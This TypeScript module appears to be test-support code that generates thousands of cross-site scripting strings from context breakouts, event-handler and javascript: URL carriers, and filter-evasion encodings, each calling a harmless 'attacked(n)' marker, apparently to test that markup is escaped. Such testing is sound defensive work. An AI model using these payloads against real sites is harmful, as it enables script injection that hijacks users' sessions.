// Texts that would run script if an element wrote them as markup, as an attribute or as a link. They are made by rule: a breakout of a
// context, a carrier with its trigger, an encoding. Each text calls `attacked`, and each has its own number.

/** Name of the function that an attack calls. */
export const ATTACKED = 'attacked'

/** Texts in all. */
export const ALL = 10_000
/** Texts of a short run. */
export const FEW = 400

/** Ends of the contexts into which a careless template would put the text. */
const BREAKOUTS: readonly string[] = [
  '',
  '">',
  "'>",
  '" ',
  "' ",
  ' ',
  '`',
  '-->',
  '--!>',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</select>',
  '</template>',
  '</svg>',
  '</noscript>',
  '*/',
  '\\"',
  '${',
  '{{',
  '<!--',
  '?>',
]

/** Carriers of a call; `call` is the code, `url` is the code as an address. */
const CARRIERS: readonly ((call: string) => string)[] = [
  ...['error', 'load', 'focus', 'toggle', 'begin', 'pointerover', 'animationstart'].flatMap((event) => [
    (call: string) => `<img src=x on${event}=${call}>`,
    (call: string) => `<svg on${event}="${call}">`,
    (call: string) => `<details open on${event}='${call}'><summary>x</summary></details>`,
    (call: string) => `on${event}="${call}" autofocus tabindex=0 x="`,
  ]),
  (call) => `<script>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<button formaction="javascript:${call}">x</button>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<link rel="stylesheet" href="javascript:${call}">`,
  (call) => `<style>@import "javascript:${call}";</style>`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<template shadowrootmode="open"><img src=x onerror=${call}></template>`,
  (call) => `<body onload=${call}>`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `vbscript:${call}`,
  (call) => `constructor.constructor('${call}')()`,
  (call) => `<!--?lit$1$--><img src=x onerror=${call}>`,
  (call) => `url(javascript:${call})`,
]

const entities = (text: string, code: (point: number) => string): string =>
  text.replaceAll(/[<>"':=()]/g, (sign) => code(sign.codePointAt(0)!))

/** Spellings that a filter may let through and a parser may read as the plain one. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text.replaceAll(/attacked|[a-z]/g, (found, at: number) =>
      found !== ATTACKED && at % 2 ? found.toUpperCase() : found,
    ),
  (text) => entities(text, (point) => `&#${point};`),
  (text) => entities(text, (point) => `&#x${point.toString(16)}`),
  (text) => entities(text, (point) => `%${point.toString(16)}`),
  (text) => entities(text, (point) => `%25${point.toString(16)}`),
  (text) => entities(text, (point) => `\\u00${point.toString(16).padStart(2, '0')}`),
  (text) => text.replaceAll('script', 'scr\tipt'),
  (text) => text.replaceAll('script', 'scr<script>ipt'),
  (text) => text.replaceAll('<', '<\u0001'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll(' on', '/on'),
  (text) => text.replaceAll(' ', '\f'),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('=', '=\u00a0'),
]

/** Number of combinations. */
export const COMBINATIONS = BREAKOUTS.length * CARRIERS.length * ENCODINGS.length

/** Shares no factor with the number of combinations, so that its multiples meet every one of them. */
const STRIDE = 7919

/** `count` different texts, evenly from all breakouts, carriers and encodings; the seed chooses where to begin. */
export function attacks(count: number, seed = 1): readonly string[] {
  return Array.from({ length: count }, (_, number) => {
    const at = ((seed + number) * STRIDE) % COMBINATIONS
    const carried = Math.floor(at / BREAKOUTS.length)
    const carrier = CARRIERS[carried % CARRIERS.length]!
    const encode = ENCODINGS[Math.floor(carried / CARRIERS.length)]!
    return encode(BREAKOUTS[at % BREAKOUTS.length]! + carrier(`${ATTACKED}(${number})`))
  })
}
